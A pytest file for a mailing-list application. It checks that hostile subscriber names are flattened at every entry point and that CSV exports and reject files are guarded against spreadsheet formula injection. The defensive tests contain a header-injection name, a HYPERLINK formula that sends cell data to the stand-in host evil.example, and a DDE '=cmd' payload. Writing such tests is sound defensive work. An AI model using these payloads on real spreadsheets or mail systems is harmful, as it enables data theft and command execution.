"""Hostile input at every way into the audience: names, spreadsheet payloads, case variants.

Each entry point is driven as a user drives it: the public form and the
preference page through the web app, the JSON API with a bearer token, the
CLI, and CSV files through the admin console and ``mailer subscribers``.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from click.testing import CliRunner
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker
from web_helpers import WebClient, add_list, link_in, mail_to

from mailer import auth
from mailer.commands.subscribers import command as subscribers_command
from mailer.users import User
from subscribers.models import Subscriber

pytest_plugins = ["web_fixtures"]

# (NUL is refused by the web app as a whole, with a message; see mailer.web.app.)
HOSTILE_NAME = "Grace\r\nBcc: everyone@example.org\t\x1b[1m\u2028Hopper\x85"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def weekly(session_factory: sessionmaker[Session]) -> int:
    with session_factory() as s:
        ml = add_list(s, double_opt_in=False)
        s.commit()
        return int(ml.id)


@pytest.fixture
def bearer(admin: User, session_factory: sessionmaker[Session]) -> dict[str, str]:
    with session_factory() as s:
        token = auth.issue_api_token(s.get(User, admin.id))  # type: ignore[arg-type]
        s.commit()
    return {"Authorization": f"Bearer {token}"}


def _names(factory: sessionmaker[Session]) -> dict[str, str]:
    with factory() as s:
        return dict(s.execute(select(Subscriber.email, Subscriber.name)).all())


def _form(client: WebClient, email: str, name: str) -> None:
    r = client.post(
        "/subscribe",
        data={
            "csrf_token": client.token("/subscribe"),
            "name": name,
            "email": email,
            "mailing_list": "odei-weekly",
        },
    )
    assert r.status_code == 200, r.get_data(as_text=True)


def test_names_are_single_line_at_every_entry_point(
    client: WebClient,
    admin_client: WebClient,
    bearer: dict[str, str],
    weekly: int,
    session_factory: sessionmaker[Session],
    cli_env: dict[str, str],
    outbox: Path,
    tmp_path: Path,
) -> None:
    _form(client, "form@example.org", HOSTILE_NAME)
    r = client.post(
        "/api/v1/subscribe",
        json={"list": "odei-weekly", "email": "api@example.org", "name": HOSTILE_NAME},
        headers=bearer,
    )
    assert r.status_code == 200, r.get_data(as_text=True)
    added = CliRunner().invoke(
        subscribers_command,
        ["add", "cli@example.org", "--list", "odei-weekly", "--name", HOSTILE_NAME],
        env=cli_env,
    )
    assert added.exit_code == 0, added.output
    upload = io.BytesIO(
        ('email,name\r\ncsv@example.org,"' + HOSTILE_NAME + '"\r\n').encode("utf-8")
    )
    page = "/admin/subscribers/import"
    r = admin_client.post(
        page,
        data={
            "csrf_token": admin_client.token(page),
            "mailing_list": "odei-weekly",
            "confirmed": "y",
            "file": (upload, "members.csv"),
        },
        content_type="multipart/form-data",
    )
    assert "imported 1" in r.get_data(as_text=True)
    # The preference page, reached from the welcome's link.
    prefs = urlsplit(link_in(mail_to(outbox, "form@example.org"), "/p/")).path
    r = client.post(
        prefs,
        data={"csrf_token": client.token(prefs), "name": "Ada\nLovelace", "lists": [str(weekly)]},
    )
    assert r.status_code == 200
    one_line = "Grace Bcc: everyone@example.org [1m Hopper"
    assert _names(session_factory) == {
        "form@example.org": "Ada Lovelace",
        "api@example.org": one_line,
        "cli@example.org": one_line,
        "csv@example.org": one_line,
    }


def test_admin_export_is_spreadsheet_safe_and_imports_back_unchanged(
    client: WebClient,
    admin_client: WebClient,
    weekly: int,
    session_factory: sessionmaker[Session],
    outbox: Path,
) -> None:
    _form(client, "mallory@example.org", "Mallory")
    prefs = urlsplit(link_in(mail_to(outbox, "mallory@example.org"), "/p/")).path
    r = client.post(
        prefs, data={"csrf_token": client.token(prefs), "name": FORMULA, "lists": [str(weekly)]}
    )
    assert r.status_code == 200 and _names(session_factory)["mallory@example.org"] == FORMULA
    export = admin_client.get("/admin/subscribers/export?list=odei-weekly")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert [r["name"] for r in rows] == ["'" + FORMULA]
    # Imported back, the guard comes off: the name is what the person typed.
    page = "/admin/subscribers/import"
    r = admin_client.post(
        page,
        data={
            "csrf_token": admin_client.token(page),
            "mailing_list": "odei-weekly",
            "confirmed": "y",
            "file": (io.BytesIO(export.get_data()), "again.csv"),
        },
        content_type="multipart/form-data",
    )
    assert "imported 0, updated 0, unchanged 1, rejected 0" in r.get_data(as_text=True)
    assert _names(session_factory)["mallory@example.org"] == FORMULA


def test_rejects_download_is_spreadsheet_safe_with_a_header_that_fits(
    admin_client: WebClient, weekly: int
) -> None:
    body = (
        "email,name,division\r\n"
        "=cmd|' /C calc'!A0,Eve,DEI\r\n"  # a formula where the address should be
        "short@example.org,Short\r\n"  # too few fields
        "long@example.org,Long,DEI,@SUM(A1),+1\r\n"  # too many
    )
    page = "/admin/subscribers/import"
    r = admin_client.post(
        page,
        data={
            "csrf_token": admin_client.token(page),
            "mailing_list": "odei-weekly",
            "file": (io.BytesIO(body.encode()), "members.csv"),
        },
        content_type="multipart/form-data",
    )
    html = r.get_data(as_text=True)
    assert "rejected 3" in html
    link = html.split('href="/admin/subscribers/import/', 1)[1].split('"', 1)[0]
    rejects = admin_client.get("/admin/subscribers/import/" + link)
    rows = list(csv.reader(io.StringIO(rejects.get_data(as_text=True))))
    assert rows[0] == ["line", "reason", "email", "name", "division", "extra fields"]
    assert all(len(row) == len(rows[0]) for row in rows), rows
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert rows[1][2] == "'=cmd|' /C calc'!A0"
    assert rows[2][2:] == ["short@example.org", "Short", "", ""]
    assert rows[3][2:] == ["long@example.org", "Long", "DEI", "'@SUM(A1),+1"]
